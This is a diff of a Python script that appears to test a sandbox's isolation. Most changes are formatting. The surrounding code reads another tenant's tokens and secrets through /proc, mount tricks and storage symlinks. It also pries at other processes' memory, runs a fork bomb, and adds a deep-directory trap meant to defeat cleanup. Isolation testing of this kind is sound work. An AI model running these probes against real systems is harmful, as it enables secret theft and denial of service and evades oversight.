@@ -50,10 +50,8 @@ def in_child(attempt, *arguments):
     child = os.fork()
     if child == 0:
         signal.alarm(20)
-        try:
+        with contextlib.suppress(BaseException):
             os.write(writer, str(attempt(*arguments) or "").encode()[:500])
-        except BaseException:
-            pass
         os._exit(0)
     os.close(writer)
     with open(reader, "rb") as told:
@@ -155,7 +153,7 @@ def traps():
 
 def hidden():
     """Whether anything of the service is to be seen, by its own path or below another root."""
-    roots = [""] + ["/proc/%s/%s" % (pid, kind) for pid in pids() for kind in ("root", "cwd")]
+    roots = [""] + [f"/proc/{pid}/{kind}" for pid in pids() for kind in ("root", "cwd")]
     return first(read, [root + path for root in roots for path in TARGET["service_files"]])
 
 
@@ -172,8 +170,8 @@ def undo_mounts():
                 return ""
             for name, text in (
                 ("setgroups", "deny"),
-                ("uid_map", "0 %d 1" % user),
-                ("gid_map", "0 %d 1" % group),
+                ("uid_map", f"0 {user} 1"),
+                ("gid_map", f"0 {group} 1"),
             ):
                 with contextlib.suppress(OSError), open("/proc/self/" + name, "w") as file:
                     file.write(text)
@@ -185,14 +183,14 @@ def undo_mounts():
         libc.mount(b"/", copy.encode(), None, BIND, None)
         if found := first(read, [copy + path for path in TARGET["service_files"]]):
             return "a second bind, " + found
-        above, name = os.path.split(TARGET["data"])
+        above = os.path.dirname(TARGET["data"])
         os.makedirs(copy + "2", exist_ok=True)
         libc.mount(
             b"overlay",
             (copy + "2").encode(),
             b"overlay",
             0,
-            ("lowerdir=%s:%s" % (above, copy)).encode(),
+            f"lowerdir={above}:{copy}".encode(),
         )
         inside = [path.replace(above, copy + "2", 1) for path in TARGET["service_files"]]
         if found := first(read, inside):
@@ -277,7 +275,7 @@ def others():
     """Processes that are not ours: the guardian, the relay, and whatever else is to be seen."""
     children = {MAIN}
     for pid in sorted(pids()):
-        with contextlib.suppress(OSError), open("/proc/%d/stat" % pid) as file:
+        with contextlib.suppress(OSError), open(f"/proc/{pid}/stat") as file:
             if int(file.read().rpartition(")")[2].split()[1]) in children:
                 children.add(pid)
     return [pid for pid in pids() if pid not in children]
@@ -289,11 +287,11 @@ def see_processes():
         own = {MAIN, 1}
         names = {}
         for pid in set(pids()) - own:
-            with contextlib.suppress(OSError), open("/proc/%d/comm" % pid) as file:
+            with contextlib.suppress(OSError), open(f"/proc/{pid}/comm") as file:
                 names[pid] = file.read().strip()
         # Our own relay is one of ours, as far as that goes.
         return ", ".join(name for name in names.values() if not name.startswith("ts-"))
-    return first(lambda pid: read("/proc/%d/cmdline" % pid), TARGET["others_pids"])
+    return first(lambda pid: read(f"/proc/{pid}/cmdline"), TARGET["others_pids"])
 
 
 def spy():
@@ -301,7 +299,7 @@ def spy():
 
     def pry(pid):
         for name in ("environ", "mem", "fd", "root/", "cwd/"):
-            path = "/proc/%d/%s" % (pid, name)
+            path = f"/proc/{pid}/{name}"
             with contextlib.suppress(OSError):
                 if name == "mem":
                     os.close(os.open(path, os.O_RDWR))
@@ -343,7 +341,7 @@ def fork_bomb():
         for child in made:
             os.kill(child, signal.SIGKILL)
             os.waitpid(child, 0)
-    return "%d processes" % len(made)
+    return f"{len(made)} processes"
 
 
 # --- storage ---
@@ -479,7 +477,7 @@ def by_links():
         os.symlink(TARGET["data"], where + "/dir")
     own = TARGET["own_bucket"]
     names = [f"link{number}" for number, _ in enumerate(TARGET["link_targets"])]
-    names += ["fifo", "dir/tokens.json", "dir/buckets/%s/secret" % TARGET["other_bucket"]]
+    names += ["fifo", "dir/tokens.json", f"dir/buckets/{TARGET['other_bucket']}/secret"]
     for name in names:
         quoted = urllib.parse.quote(name, safe="")
         status, body = ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o/{quoted}?alt=media")
@@ -504,8 +502,8 @@ def abstract_sockets():
 
 def loopback():
     """Servers of this machine, other jobs' among them."""
-    host, port = TARGET["other_endpoint"].split(":")
-    with socket.create_connection((host, int(port) - 1), timeout=10):
+    host = TARGET["other_endpoint"].split(":")[0]
+    with socket.create_connection((host, TARGET["other_port"]), timeout=10):
         return "connected"
 
 
@@ -644,7 +642,15 @@ def lay_traps():
             os.symlink(TARGET["data"], place)
     for number, path in enumerate(TARGET["link_targets"]):
         with contextlib.suppress(OSError):
-            os.symlink(path, os.path.join(HOME, "work", "trap%d" % number))
+            os.symlink(path, os.path.join(HOME, "work", f"trap{number}"))
+    # Deeper than whoever clears up after us can follow.
+    here = os.open(os.path.join(HOME, "work"), os.O_RDONLY)
+    for _ in range(1100):
+        os.mkdir("deep", dir_fd=here)
+        inner = os.open("deep", os.O_RDONLY, dir_fd=here)
+        os.close(here)
+        here = inner
+    os.close(here)
     with open(os.path.join(HOME, "work", "trapped"), "w"):
         pass
     os.kill(os.getpid(), signal.SIGKILL)
@@ -660,7 +666,7 @@ def main():
             found[name] = str(attempt() or "")
         except (OSError, http.client.HTTPException) as error:
             found[name], why[name] = "", str(error)
-        why[name] = "%s %.2fs" % (why.get(name, ""), time.monotonic() - begin)
+        why[name] = f"{why.get(name, '')} {time.monotonic() - begin:.2f}s"
     print("WHY " + json.dumps(why))
     print("CONTROLS " + json.dumps(controls()))
     # To be tried by gRPC, for which this program has no library.
